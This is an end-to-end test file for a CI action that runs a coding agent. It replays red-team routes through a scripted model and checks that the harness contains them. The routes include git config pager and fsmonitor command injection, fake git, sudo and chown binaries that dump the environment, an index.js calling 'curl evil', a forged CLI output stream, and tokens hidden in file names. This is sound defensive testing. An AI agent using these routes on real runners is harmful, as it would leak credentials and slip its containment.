// The routes a red team found (issue 10: 1, 2, 3, 5 push half, 7, 8, 10), each
// tried end to end with the real CLI, the scripted model and the bundled
// action: the agent's tree is data, never configuration or code for a process
// that holds a credential or root's rights. Where a route needs no code of the
// agent's own, the agent has the DEFAULT allowed_tools.

import { afterEach, describe, expect, it } from '@jest/globals'
import { spawnSync } from 'node:child_process'
import {
  chmodSync,
  copyFileSync,
  existsSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { fileURLToPath } from 'node:url'
import { advanceBranch, fileAt, git as runGit } from '../harness/git/index.js'
import {
  bash,
  readFile as readTool,
  say,
  stall,
  writeFile,
  type ModelScript,
} from '../harness/model/index.js'
import { closeWorld, statusBody } from '../harness/status.js'
import { CLAUDE_BINARY, createWorld, type World } from '../harness/world.js'

const HOSTILE = path.join(path.dirname(fileURLToPath(import.meta.url)), '..', 'fixtures', 'hostile')

let world: World | undefined
const cleanups: Array<() => void> = []
afterEach(async () => {
  await closeWorld(world)
  world = undefined
  for (const cleanup of cleanups.splice(0)) cleanup()
})

const canIsolate =
  process.getuid?.() === 0 || spawnSync('sudo', ['-n', 'true'], { stdio: 'ignore' }).status === 0
const whenIsolated = canIsolate ? describe : describe.skip
if (!canIsolate) {
  console.warn(
    'security-routes.e2e: no root and no passwordless sudo here, so these tests are skipped',
  )
}

/** A directory anyone may write into, for markers planted commands leave. */
function markerDir(): string {
  const dir = mkdtempSync(path.join(tmpdir(), 'async-pr-markers-'))
  chmodSync(dir, 0o1777)
  cleanups.push(() => rmSync(dir, { recursive: true, force: true }))
  return dir
}

function secretForms(w: World): string[] {
  return Object.values(w.secrets).flatMap((secret) => [
    secret,
    Buffer.from(secret).toString('base64'),
    Buffer.from(`x-access-token:${secret}`).toString('base64'),
  ])
}

/** Everything a run showed the world: comments, log, outputs, summary, and every commit. */
/** The text of every tool result the model was shown, in order (the last request carries them all). */
function toolResults(w: World): string[] {
  const messages = w.model.requests.at(-1)?.body?.messages ?? []
  const texts: string[] = []
  for (const message of messages) {
    if (message.role !== 'user' || !Array.isArray(message.content)) continue
    for (const block of message.content as Array<{ type: string; content?: unknown }>) {
      if (block.type !== 'tool_result') continue
      texts.push(typeof block.content === 'string' ? block.content : JSON.stringify(block.content))
    }
  }
  if (process.env.DEBUG_ROUTES)
    for (const text of texts) console.log('TOOL RESULT', text.slice(0, 1500))
  return texts
}

async function published(
  w: World,
  run: { stdout: string; stderr: string; outputs: object; summary: string },
) {
  const gitDir = path.join(w.gitRoot, `${w.fullName}.git`)
  const history = await runGit(['log', '-p', '--all', '--format=%H %B'], {
    env: { GIT_DIR: gitDir },
  })
  const comments = w.emulator.state.comments(w.owner, w.repo, w.prNumber).map((c) => c.body)
  // The runner masks what `::add-mask::` names: those lines are the one place a secret may be.
  const log = run.stdout
    .split('\n')
    .filter((line) => !line.startsWith('::add-mask::'))
    .join('\n')
  return [history, ...comments, log, run.stderr, JSON.stringify(run.outputs), run.summary].join(
    '\n',
  )
}

const withPath = (w: World) => ({
  PATH: `${path.join(w.checkout.workspace, 'node_modules', '.bin')}:${process.env.PATH ?? ''}`,
})

whenIsolated('the agent’s tree is data for everything after the agent', () => {
  it('route 1, 3, 10: a nested repository with commands in its config, a .gitmodules, planted git and chown, a cloned library — nothing runs as root, the PAT stays put, the work is pushed as content', async () => {
    const markers = markerDir()
    let moved: Promise<unknown> | undefined
    const script: ModelScript = ({ step }) => {
      const ws = world!.checkout.workspace
      const steps = [
        writeFile(
          path.join(ws, 'layout.cjs'),
          readFileSync(path.join(HOSTILE, 'layout.cjs'), 'utf8'),
        ),
        writeFile(
          path.join(ws, 'package.json'),
          JSON.stringify({
            private: true,
            scripts: { test: `node layout.cjs ${markers}` },
          }),
        ),
        bash('npm test'),
        writeFile(path.join(ws, 'src', 'feature.txt'), 'the real work\n'),
      ]
      if (step < steps.length) return steps[step]
      if (step === steps.length) {
        // The branch moves while the agent works: the push has to fetch and rebase.
        moved = advanceBranch(world!.gitRoot, world!.fullName, world!.headRef, {
          files: { 'theirs.txt': 'a concurrent change\n' },
        })
        return stall(800, { text: 'Done.' })
      }
      void moved
      return undefined
    }
    world = await createWorld({
      script,
      files: { 'README.md': '# app\n', '.gitignore': 'node_modules/\n' },
    })
    const run = await world.run({
      inputs: {
        allowed_tools: 'Read,Edit(./**),Bash(npm test:*)',
      },
      env: withPath(world),
      timeoutMs: 180_000,
    })

    // The hostile script really ran, as the agent's user.
    const npmTest = toolResults(world).find((text) => text.includes('nested repository: ok'))
    expect(npmTest).toBeDefined()
    expect(npmTest).toContain('a library with its own repository: ok')
    expect(npmTest).toMatch(/stage a gitlink refused: /)

    // Nothing it planted ran as root, and nothing that ran saw the PAT.
    const ran = readdirSync(markers)
    expect(ran.filter((name) => name.endsWith('-0'))).toEqual([])
    const seen = ran.map((name) => readFileSync(path.join(markers, name), 'utf8')).join('\n')
    expect(secretForms(world).filter((form) => seen.includes(form))).toEqual([])
    const everything = await published(world, run)
    expect(secretForms(world).filter((form) => everything.includes(form))).toEqual([])

    // The work is on the branch, rebased onto the change pushed meanwhile.
    expect(run.outputs.conclusion).toBe('success')
    const at = (file: string) => fileAt(world!.gitRoot, world!.fullName, world!.headRef, file)
    expect(await at('src/feature.txt')).toBe('the real work\n')
    expect(await at('theirs.txt')).toBe('a concurrent change\n')
    // The cloned library is content, patched, not a gitlink; no nested .git went anywhere.
    expect(await at('lib/lib.js')).toBe('module.exports = {}\nmodule.exports.patched = true\n')
    const gitDir = path.join(world.gitRoot, `${world.fullName}.git`)
    const tree = await runGit(['ls-tree', '-r', world.headRef], { env: { GIT_DIR: gitDir } })
    expect(tree).not.toMatch(/^160000 /m)
    expect(tree).not.toMatch(/\/\.git\//)
    expect(await at('vendor/evil/README.md')).toBe('vendored\n')
    // .gitmodules is held back, and the comment says what happened to each.
    expect(await at('.gitmodules')).toBeUndefined()
    const body = statusBody(world)
    expect(body).toContain('`.gitmodules` names URLs and commands')
    expect(body).toMatch(/\*\*Nested repositories:\*\*.*`lib\/`/)
    expect(body).toMatch(/rebased onto/)
  })

  it('route 2: with the default tools the agent cannot write its git config or make git run a program', async () => {
    const markers = markerDir()
    // No quotes, spaces or redirections: Claude Code's own checks let this through to git.
    const config = `[diff]%n%texternal=touch%x20${markers}/external%n[core]%n%tpager=touch%x20${markers}/pager`
    const ws = () => world!.checkout.workspace
    const script: ModelScript = ({ step }) =>
      [
        bash(`git log -1 --format=${config} --output ~/.gitconfig`),
        bash(`git log -1 --format=${config} --outp ~/.gitconfig`),
        bash(`git log -1 --format=${config} --output=.git/config`),
        bash('git diff HEAD --output=diff-out.txt'),
        writeFile(
          path.join(ws(), '.git', 'config'),
          `[core]\n\tfsmonitor = touch ${markers}/fsmonitor\n`,
        ),
        readTool(path.join(ws(), 'README.md')),
        writeFile(path.join(ws(), 'README.md'), '# app, changed\n'),
        bash('git diff'),
        bash('git diff --ext-diff'),
        bash('git show --textconv HEAD'),
        bash('git status'),
        bash('git log -p -1'),
        say('Tried.'),
      ][step]
    world = await createWorld({ script })
    const run = await world.run({ timeoutMs: 120_000 })
    const results = toolResults(world).join('\n')
    expect(results).toContain('async-pr refused: git --output is not allowed here')
    expect(results).toContain('async-pr refused: git --outp is not allowed here')
    expect(results).toContain('async-pr refused: git --ext-diff')
    expect(results).toContain('async-pr refused: git --textconv')
    // Nothing ran, as anyone; git wrote no file.
    expect(readdirSync(markers)).toEqual([])
    expect(existsSync(path.join(world.checkout.workspace, 'diff-out.txt'))).toBe(false)
    expect(run.outputs.conclusion).toBe('success')
    expect(await fileAt(world.gitRoot, world.fullName, world.headRef, 'README.md')).toBe(
      '# app, changed\n',
    )
  })

  it('route 3: programs named git and chown in a PATH directory inside the workspace never run', async () => {
    const markers = markerDir()
    world = await createWorld({
      script: ({ step }) =>
        [writeFile(path.join(world!.checkout.workspace, 'hello.txt'), 'hello\n'), say('ok')][step],
    })
    // An earlier step put node_modules/.bin on PATH, and something put programs there.
    const bin = path.join(world.checkout.workspace, 'node_modules', '.bin')
    mkdirSync(bin, { recursive: true })
    for (const name of [
      'git',
      'chown',
      'chmod',
      'kill',
      'useradd',
      'userdel',
      'id',
      'sudo',
      'env',
      'nice',
    ]) {
      writeFileSync(path.join(bin, name), `#!/bin/sh\nenv > ${markers}/${name}-$(id -u)\n`, {
        mode: 0o755,
      })
    }
    const run = await world.run({ env: withPath(world) })
    expect(readdirSync(markers)).toEqual([])
    expect(run.outputs.conclusion).toBe('success')
    expect(await fileAt(world.gitRoot, world.fullName, world.headRef, 'hello.txt')).toBe('hello\n')
  })

  it('route 7: a claude_path under RUNNER_TEMP runs from the run’s own directory, and RUNNER_TEMP stays closed', async () => {
    const stepSecret = 'test-step-secret-0123456789abcdef'
    let runnerTemp = ''
    const script: ModelScript = ({ step }) =>
      [
        readTool(path.join(runnerTemp, 'step-script.sh')),
        writeFile(path.join(world!.checkout.workspace, 'hello.txt'), 'hello\n'),
        say('ok'),
      ][step]
    world = await createWorld({ script })
    runnerTemp = path.join(world.root, 'runner-temp')
    writeFileSync(path.join(runnerTemp, 'step-script.sh'), `export SECRET=${stepSecret}\n`)
    const tools = path.join(runnerTemp, 'tools')
    mkdirSync(tools, { recursive: true })
    // A hard link where we may make one (root); otherwise a copy: the binary itself inside RUNNER_TEMP.
    try {
      linkSync(realpathSync(CLAUDE_BINARY), path.join(tools, 'claude'))
    } catch {
      copyFileSync(realpathSync(CLAUDE_BINARY), path.join(tools, 'claude'))
      chmodSync(path.join(tools, 'claude'), 0o755)
    }
    const run = await world.run({ inputs: { claude_path: path.join(tools, 'claude') } })
    expect(run.outputs.conclusion).toBe('success')
    expect(run.stdout).toMatch(/is inside RUNNER_TEMP; the agent runs a (link to|copy of) it/)
    expect(JSON.stringify(world.model.requests.map((r) => r.body))).not.toContain(stepSecret)
    expect(JSON.stringify(world.model.requests.map((r) => r.body))).toMatch(
      /EACCES|permission denied/i,
    )
  })

  it('route 8: composite actions and every local `uses:` path the workflows name are held back and named', async () => {
    const ws = () => world!.checkout.workspace
    world = await createWorld({
      files: {
        'README.md': '# app\n',
        '.github/workflows/ci.yml':
          'on: push\njobs:\n  ci:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./.github/actions/setup\n      - uses: ./tools/ci-action\n',
        '.github/actions/setup/action.yml':
          "runs:\n  using: composite\n  steps:\n    - uses: './tools/deep'\n",
        'tools/ci-action/action.yml': 'runs:\n  using: node24\n  main: index.js\n',
        'tools/ci-action/index.js': 'console.log(1)\n',
        'tools/deep/action.yml': 'runs:\n  using: node24\n  main: index.js\n',
      },
      script: ({ step }) =>
        [
          writeFile(
            path.join(ws(), '.github/actions/setup/action.yml'),
            'runs: {using: composite, steps: []}\n',
          ),
          writeFile(
            path.join(ws(), 'tools/ci-action/index.js'),
            'require("child_process").exec("curl evil")\n',
          ),
          writeFile(path.join(ws(), 'tools/deep/index.js'), 'evil()\n'),
          writeFile(path.join(ws(), 'src/ok.txt'), 'ok\n'),
          say('ok'),
        ][step],
    })
    const run = await world.run()
    expect(run.outputs.conclusion).toBe('success')
    const at = (file: string) => fileAt(world!.gitRoot, world!.fullName, world!.headRef, file)
    expect(await at('src/ok.txt')).toBe('ok\n')
    expect(await at('tools/ci-action/index.js')).toBe('console.log(1)\n')
    expect(await at('tools/deep/index.js')).toBeUndefined()
    expect(await at('.github/actions/setup/action.yml')).toContain("'./tools/deep'")
    const body = statusBody(world)
    // Files the agent did not change are not named, though the agent's user owned them for the run.
    expect(body).not.toContain('`.github/workflows/ci.yml`')
    expect(body).not.toContain('`tools/ci-action/action.yml`')
    for (const file of [
      '.github/actions/setup/action.yml',
      'tools/ci-action/index.js',
      'tools/deep/index.js',
    ]) {
      expect(body).toContain(`\`${file}\``)
    }
  })

  it('route 10: a 4 GiB sparse file is refused by its size before anything reads it, and the rest is pushed', async () => {
    const ws = () => world!.checkout.workspace
    world = await createWorld({
      script: ({ step }) =>
        [
          writeFile(
            path.join(ws(), 'package.json'),
            JSON.stringify({
              private: true,
              scripts: {
                test: `node -e "require('fs').closeSync(require('fs').openSync('huge.bin','w')); require('fs').truncateSync('huge.bin', 4 * 1024 ** 3)"`,
              },
            }),
          ),
          bash('npm test'),
          writeFile(path.join(ws(), 'small.txt'), 'small\n'),
          say('ok'),
        ][step],
    })
    const run = await world.run({ inputs: { allowed_tools: 'Read,Edit(./**),Bash(npm test:*)' } })
    expect(run.outputs.conclusion).toBe('failure')
    expect(await fileAt(world.gitRoot, world.fullName, world.headRef, 'small.txt')).toBe('small\n')
    expect(await fileAt(world.gitRoot, world.fullName, world.headRef, 'huge.bin')).toBeUndefined()
    expect(statusBody(world)).toMatch(
      /larger than max_file_size_mb \(5\.0 MB\): `huge\.bin` \(4096\.0 MB\)/,
    )
  })

  it('route 5 (push half): a token in a file name or in UTF-16 content is found, and those files stay out', async () => {
    const token = `ghp_${'Q7'.repeat(18)}`
    const utf16 = `key=${token}`
      .split('')
      .map((char) => `${char}\u0000`)
      .join('')
    const ws = () => world!.checkout.workspace
    world = await createWorld({
      script: ({ step }) =>
        [
          writeFile(path.join(ws(), 'wide.txt'), utf16),
          writeFile(path.join(ws(), `notes-${token}.txt`), 'harmless\n'),
          writeFile(path.join(ws(), 'fine.txt'), 'fine\n'),
          say('ok'),
        ][step],
    })
    const run = await world.run()
    expect(run.outputs.conclusion).toBe('failure')
    const at = (file: string) => fileAt(world!.gitRoot, world!.fullName, world!.headRef, file)
    expect(await at('fine.txt')).toBe('fine\n')
    expect(await at('wide.txt')).toBeUndefined()
    const gitDir = path.join(world.gitRoot, `${world.fullName}.git`)
    expect(
      await runGit(['ls-tree', '-r', '--name-only', world.headRef], { env: { GIT_DIR: gitDir } }),
    ).not.toContain(token)
    const everything = await published(world, run)
    expect(everything).not.toContain(token)
    expect(statusBody(world)).toContain('`wide.txt` (a GitHub token, line 1)')
  })
})

whenIsolated(
  'route 6: the stream can be forged; what reaches the runner and the numbers cannot',
  () => {
    it('a forged result written into the CLI’s stdout after it exits changes neither turns nor cost, and issues no workflow command', async () => {
      const ws = () => world!.checkout.workspace
      world = await createWorld({
        script: ({ step }) =>
          [
            writeFile(
              path.join(ws(), 'forge.py'),
              readFileSync(path.join(HOSTILE, 'forge.py'), 'utf8'),
            ),
            writeFile(
              path.join(ws(), 'package.json'),
              JSON.stringify({ private: true, scripts: { test: 'python3 forge.py' } }),
            ),
            bash('npm test'),
            writeFile(path.join(ws(), 'hello.txt'), 'hello\n'),
            say('Done.'),
          ][step],
      })
      const run = await world.run({ inputs: { allowed_tools: 'Read,Edit(./**),Bash(npm test:*)' } })
      const results = toolResults(world).join('\n')
      // The forgery really was attempted (this kernel lets a process take a copy of its parent's stdout).
      expect(results).toMatch(/forging the stream of Claude Code \(pid \d+\)/)
      // ...and was taken in: the report quotes the forged summary (what the stream may say is the agent's word).
      expect(run.summary).toContain('Security review: passed')
      // The numbers are the proxy's: five model turns, not the forged one, at the proxy's price.
      expect(run.outputs.num_turns).toBe('5')
      expect(Number(run.outputs.cost_usd)).toBeGreaterThan(0.001)
      // The session id is the real one; nothing forged became a workflow command.
      expect(run.outputs.session_id).toMatch(
        /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/,
      )
      expect(
        run.stdout.split('\n').some((line) => /^\s*::(set-output|add-mask::x)/.test(line)),
      ).toBe(false)
      expect(run.outputs.pwned).toBeUndefined()
    })
  },
)
